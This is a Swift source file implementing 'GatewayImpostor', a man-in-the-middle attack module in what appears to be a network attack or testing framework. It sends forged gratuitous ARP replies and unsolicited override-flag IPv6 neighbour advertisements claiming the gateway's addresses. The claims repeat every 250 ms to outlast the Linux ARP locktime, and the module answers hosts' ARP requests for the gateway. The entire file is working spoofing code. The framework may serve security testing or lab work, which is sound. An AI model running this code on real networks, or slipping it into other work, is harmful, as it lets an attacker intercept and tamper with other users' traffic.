import FrameBuilding
package import PacketDecoding

/// A station that claims the gateway's addresses, and passes on what it is sent: the man in the middle.
package struct GatewayImpostor: Attack {
    package let name = "ARP and neighbour spoofing of the gateway"
    package let station = StationIdentity.impostor
    /// The genuine gateway's answer counts for a second with Linux (locktime in arp(7)), so that claims repeat.
    package let period: Duration? = .milliseconds(250)
    package let listens = true

    private let gateway: IPv4Address
    private let gateways6: [IPv6Address]

    /// Creates an impostor of a gateway with these addresses.
    package init(gateway: IPv4Address, gateways6: [IPv6Address]) {
        (self.gateway, self.gateways6) = (gateway, gateways6)
    }

    package mutating func speak() -> [[UInt8]] {
        let claim = station.frames.arp(2, sender: gateway, target: gateway, targetHardware: .broadcast)
        let claims6 = gateways6.map { address in
            var frames = station.frames
            frames.address6 = address
            // A router's advertisement that nobody asked for and that overrides (RFC 4861, section 4.4).
            let body = [0xa0, 0, 0, 0] + bytes(address.high) + bytes(address.low) + [2, 1] + station.hardware.bytes
            return frames.icmpv6(136, to: .allNodes, body)
        }
        return [claim] + claims6
    }

    package mutating func hear(_ frame: HeardFrame) -> [[UInt8]] {
        guard case .arp(let asked) = frame.content.content, asked.operation == .request, asked.target == gateway else {
            return []
        }
        return [
            station.frames.arp(
                2,
                sender: gateway,
                target: asked.sender,
                targetHardware: asked.senderHardware,
                to: asked.senderHardware
            )
        ]
    }
}
